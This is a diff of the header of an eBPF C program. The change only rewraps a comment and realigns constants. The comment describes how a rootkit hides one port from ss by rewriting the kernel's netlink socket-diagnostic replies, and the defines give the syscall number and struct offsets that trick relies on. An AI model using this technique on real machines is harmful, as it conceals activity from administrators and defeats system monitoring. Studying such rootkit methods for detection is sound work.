@@ -1,8 +1,8 @@
 // SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
-// What a rootkit does to hide a port from ss and everybody who asks as ss does: it changes the kernel's answer
-// in the memory of who asked, after the kernel wrote it and before recvmsg(2) returns. The message about one
-// inode becomes NLMSG_NOOP, and of no family for ss, which does not look at types. Only that one socket is
-// lied about.
+// What a rootkit does to hide a port from ss and everybody who asks as ss does: it changes the kernel's
+// answer in the memory of who asked, after the kernel wrote it and before recvmsg(2) returns. The message
+// about one inode becomes NLMSG_NOOP, and of no family for ss, which does not look at types. Only that one
+// socket is lied about.
 #include <linux/bpf.h>
 
 #include <bpf/bpf_core_read.h>
@@ -10,10 +10,10 @@
 
 char LICENSE[] SEC("license") = "GPL";
 
-#define RECVMSG 47               /* x86-64's number of the system call */
-#define ABOUT_A_SOCKET 20        /* SOCK_DIAG_BY_FAMILY, linux/sock_diag.h */
-#define FAMILY_OFFSET 16         /* nlmsghdr; inet_diag_msg begins with idiag_family */
-#define INODE_OFFSET (16 + 68)   /* inet_diag_msg up to idiag_inode */
+#define RECVMSG 47             /* x86-64's number of the system call */
+#define ABOUT_A_SOCKET 20      /* SOCK_DIAG_BY_FAMILY, linux/sock_diag.h */
+#define FAMILY_OFFSET 16       /* nlmsghdr; inet_diag_msg begins with idiag_family */
+#define INODE_OFFSET (16 + 68) /* inet_diag_msg up to idiag_inode */
 #define MOST_MESSAGES 256
 
 #pragma clang attribute push(__attribute__((preserve_access_index)), apply_to = record)
